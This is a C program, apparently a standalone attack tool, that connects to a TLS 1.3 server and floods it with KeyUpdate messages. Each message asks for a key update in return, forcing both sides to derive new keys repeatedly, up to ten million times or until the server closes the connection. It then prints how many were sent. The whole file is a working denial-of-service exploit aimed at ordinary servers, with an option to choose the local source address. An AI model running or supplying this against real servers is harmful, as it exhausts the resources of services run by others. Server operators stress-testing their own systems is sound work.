/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks a server over TLS 1.3 with KeyUpdates that ask for one in return, each of which costs
 * both sides new keys, until the server ends that; prints how many it sent.
 * rekeys HOST PORT [SOURCE]: an IPv4 address to come from */
#include <arpa/inet.h>
#include <netdb.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

enum { MOST = 10000000 };

static const unsigned char h2[] = {2, 'h', '2'};
static const char greeting[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0";

/* False: it is no address of this machine. */
static bool
come_from(int fd, const char *source)
{
    struct sockaddr_in address = {.sin_family = AF_INET};

    return inet_pton(AF_INET, source, &address.sin_addr) == 1 &&
           bind(fd, (const struct sockaddr *)&address, sizeof(address)) == 0;
}

static int
connect_to(const char *host, const char *port, const char *source)
{
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *found;
    int fd = -1;

    if (getaddrinfo(host, port, &hints, &found) != 0)
        return -1;
    fd = socket(found->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd >= 0 && ((source != NULL && !come_from(fd, source)) ||
                       connect(fd, found->ai_addr, found->ai_addrlen) != 0)) {
        close(fd);
        fd = -1;
    }
    freeaddrinfo(found);
    return fd;
}

/* What the server says does not matter, but that it ends. */
static bool
listen_on(SSL *ssl, int fd)
{
    char byte, bytes[4096];

    while (recv(fd, &byte, 1, MSG_PEEK | MSG_DONTWAIT) >= 0) {
        int got = SSL_read(ssl, bytes, sizeof(bytes));

        if (got <= 0 && SSL_get_error(ssl, got) != SSL_ERROR_WANT_READ)
            return false;
    }
    return true;
}

static long
flood(SSL *ssl, int fd)
{
    long sent = 0;

    while (sent < MOST && SSL_key_update(ssl, SSL_KEY_UPDATE_REQUESTED) == 1 &&
           SSL_do_handshake(ssl) == 1) {
        sent++;
        if (sent % 256 == 0 && !listen_on(ssl, fd))
            break;
    }
    return sent;
}

int
main(int argc, char **argv)
{
    SSL_CTX *context = SSL_CTX_new(TLS_client_method());
    SSL *ssl = context == NULL ? NULL : SSL_new(context);
    int fd = argc == 3 || argc == 4 ? connect_to(argv[1], argv[2], argv[3]) : -1;

    signal(SIGPIPE, SIG_IGN);
    if (ssl == NULL || fd < 0 || SSL_set_min_proto_version(ssl, TLS1_3_VERSION) != 1 ||
        SSL_set_alpn_protos(ssl, h2, sizeof(h2)) != 0 || SSL_set_fd(ssl, fd) != 1 ||
        SSL_connect(ssl) != 1 || SSL_write(ssl, greeting, sizeof(greeting) - 1) <= 0) {
        fprintf(stderr, "usage: rekeys HOST PORT [SOURCE], of a server that speaks TLS 1.3\n");
        return 2;
    }
    SSL_clear_mode(ssl, SSL_MODE_AUTO_RETRY); /* a read that finds keys alone returns */
    printf("%ld\n", flood(ssl, fd));
    SSL_free(ssl);
    SSL_CTX_free(context);
    close(fd);
    return 0;
}
